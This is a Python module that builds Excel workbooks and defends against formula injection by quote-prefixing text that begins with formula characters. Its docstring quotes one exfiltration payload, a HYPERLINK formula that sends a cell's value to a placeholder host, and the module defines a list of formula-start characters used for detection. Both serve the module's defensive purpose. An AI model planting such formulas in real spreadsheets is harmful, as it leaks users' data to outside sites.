"""Write .xlsx: the one place every workbook giaoban produces is made and saved (templates, roll-ups,
consolidated tables, and any later export), so that no user's text ever becomes a live formula.

Rules every export gets by going through this module:

- **Text is text.** giaoban never writes a formula into a cell. A string that begins with ``=``, ``+``,
  ``-``, ``@``, a tab or a CR (what Excel, LibreOffice and CSV readers treat as the start of a formula) is
  written as a text cell with Excel's quote prefix, so it shows exactly as typed and stays text even when
  someone edits the cell (``=HYPERLINK("http://x/?"&A1)`` in a narrative would otherwise send a cell's
  value to another site). ``workbook_bytes`` enforces it for every cell of every sheet before saving, so
  a writer that assigned a string directly is covered too.
- **Numbers stay numbers** (int, float, Decimal -> float) with a format that groups thousands ("#,##0"),
  so Excel shows them in the reader's locale (8.134 in Vietnamese Excel, 8,134 in English); a ratio or a
  percentage goes in as ``ratio(56.4)`` and shows one decimal ("56,4 %"), as pages do.
- **Only what XML can carry**: control characters that .xlsx cannot hold are stripped (line breaks and
  tabs kept; see giaoban.core.text.clean_text), so old stored text cannot make an export fail.

Use ``new_workbook()``, ``put()`` / ``append()`` to write cells and ``workbook_bytes()`` to save;
``table_to_xlsx()`` builds a whole table export from them.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell as XlCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

from giaoban.core.text import clean_text

__all__ = [
    "DECIMAL_FORMAT",
    "FORMULA_STARTS",
    "INTEGER_FORMAT",
    "PERCENT_FORMAT",
    "RATIO_FORMAT",
    "Cell",
    "Number",
    "append",
    "cell_value",
    "new_workbook",
    "percent",
    "put",
    "ratio",
    "sheet_name",
    "table_to_xlsx",
    "workbook_bytes",
]

# Excel number formats: thousands grouped; the reader's Excel picks the separators (8.134 / 8,134).
INTEGER_FORMAT = "#,##0"
DECIMAL_FORMAT = "#,##0.0###"
RATIO_FORMAT = "#,##0.0"
PERCENT_FORMAT = '#,##0.0" %"'  # the cell holds 56.4 (as pages and the API do), shown "56,4 %"


@dataclass(frozen=True)
class Number:
    """A number with its own Excel format (a ratio to one decimal, a percentage, a rounded estimate)."""

    value: int | float | Decimal | None
    number_format: str

    def __str__(self) -> str:  # for column widths
        return "" if self.value is None else str(self.value)


def ratio(value: int | float | Decimal | None) -> Number:
    """A ratio to one decimal (1,3)."""
    return Number(value, RATIO_FORMAT)


def percent(value: int | float | Decimal | None) -> Number:
    """A percentage already x 100 (56.4), shown "56,4 %"."""
    return Number(value, PERCENT_FORMAT)


Cell = str | int | float | Decimal | Number | None

# What makes a spreadsheet program (or a CSV reader) take text for a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_value(value: Any) -> Any:
    """A value as a cell may hold it: text cleaned of what XML cannot carry, Decimal as float, the rest
    as given (int, float, dates, None)."""
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, str):
        return clean_text(value)
    return value


def _as_text(cell: XlCell, text: str) -> None:
    # Set the type after the value: openpyxl's setter marks a string starting with "=" as a formula.
    cell.value = text
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True


def put(ws, row: int, column: int, value: Any = None) -> XlCell:
    """Write `value` into (row, column) of `ws` by the rules above and return the cell."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, Number):
        cell.value = cell_value(value.value)
        if value.value is not None:
            cell.number_format = value.number_format
        return cell
    value = cell_value(value)
    if isinstance(value, str):
        _as_text(cell, value)
    else:
        cell.value = value
    return cell


def append(ws, values: Iterable[Any]) -> int:
    """Append a row after the last one by the rules above; returns its row number."""
    row = ws.max_row + 1 if ws.max_row > 1 or ws.cell(1, 1).value is not None else 1
    for column, value in enumerate(values, start=1):
        put(ws, row, column, value)
    return row


def new_workbook() -> Workbook:
    """An empty workbook (no default sheet) to fill with put()/append() and save with workbook_bytes()."""
    wb = Workbook()
    wb.remove(wb.active)
    return wb


def workbook_bytes(wb: Workbook) -> bytes:
    """Save the workbook after making every cell safe: a formula (giaoban writes none, so it can only be
    someone's text) becomes text, formula-like text gets the quote prefix, and text is cleaned."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type in ("f", "s", "str", "inlineStr") and isinstance(cell.value, str):
                    text = clean_text(cell.value)
                    if cell.data_type == "f" or text != cell.value or text.startswith(FORMULA_STARTS):
                        _as_text(cell, text)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def table_to_xlsx(
    sheets: Sequence[tuple[str, Sequence[str], Sequence[Sequence[Cell]]]], *, title: str | None = None
) -> bytes:
    """sheets: (sheet name, headers, rows). Numbers stay numbers (Excel formats them in the
    reader's locale: 56.000 in Vietnamese Excel); a title, if given, goes above each table."""
    wb = new_workbook()
    for name, headers, rows in sheets:
        ws = wb.create_sheet(sheet_name(name))
        if title:
            put(ws, 1, 1, title).font = Font(bold=True, size=13)
        header_row = 3 if title else 1
        for column, header in enumerate(headers, start=1):
            c = put(ws, header_row, column, str(header))
            c.font = Font(bold=True)
            c.alignment = Alignment(wrap_text=True, vertical="center")
        for n, row in enumerate(rows, start=header_row + 1):
            for column, value in enumerate(row, start=1):
                c = put(ws, n, column, value)
                if isinstance(value, Number) or c.number_format != "General":
                    continue
                if isinstance(c.value, int | float) and not isinstance(c.value, bool):
                    c.number_format = INTEGER_FORMAT if float(c.value).is_integer() else DECIMAL_FORMAT
        ws.freeze_panes = ws.cell(row=header_row + 1, column=1)
        for i, header in enumerate(headers, start=1):
            width = max(
                [len(str(header))] + [len(str(r[i - 1])) for r in rows if i - 1 < len(r) and r[i - 1] is not None]
            )
            ws.column_dimensions[get_column_letter(i)].width = min(max(width + 2, 8), 60)
    return workbook_bytes(wb)


def sheet_name(name: str) -> str:
    """A valid sheet name: Excel forbids []:*?/\\ and ' at the ends, and caps names at 31 characters."""
    cleaned = "".join("-" if c in "[]:*?/\\" else c for c in clean_text(name).replace("\n", " ").replace("\t", " "))
    cleaned = cleaned.strip().strip("'").strip() or "Sheet"
    return cleaned[:31]
